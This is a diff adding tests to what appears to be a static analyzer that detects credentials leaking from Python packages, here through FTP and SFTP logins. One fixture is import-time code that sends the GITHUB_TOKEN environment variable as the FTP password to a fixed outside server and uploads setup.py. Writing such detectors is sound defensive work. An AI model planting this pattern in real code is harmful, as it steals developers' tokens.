@@ -167,3 +167,30 @@ describe("a destination computed from the credential's own settings, two calls a
     expect(flowsOf(facts)).toEqual(["env-dump@pkg/__init__.py:7 -> http@pkg/__init__.py:4 *://*/.well-known/profile own [import]"]);
   });
 });
+
+describe("the login of a connecting client's constructor", () => {
+  it("a prompted password given to pysftp.Connection / FTP(host, user, passwd) authenticates", async () => {
+    const facts = await analyze({
+      "pkg/__init__.py": `
+        import ftplib, getpass, pysftp
+        def push(host, path):
+            with pysftp.Connection(host, username="me", password=getpass.getpass()) as c:
+                c.put(path)
+            ftp = ftplib.FTP(host, "me", getpass.getpass())
+            ftp.storbinary("STOR x", open(path, "rb"))
+      `,
+    });
+    expect(facts.flows.filter((f) => f.use !== "auth")).toEqual([]);
+  });
+
+  it("a token given as the FTP password of a fixed foreign server is still a flow", async () => {
+    const facts = await analyze({
+      "pkg/__init__.py": `
+        import ftplib, os
+        ftp = ftplib.FTP("ftp.collect.example.org", "drop", os.environ["GITHUB_TOKEN"])
+        ftp.storbinary("STOR x", open("setup.py", "rb"))
+      `,
+    });
+    expect(flowsOf(facts)).toEqual(["env-secret@pkg/__init__.py:2 -> ftp@pkg/__init__.py:3 ftp.collect.example.org [import]"]);
+  });
+});
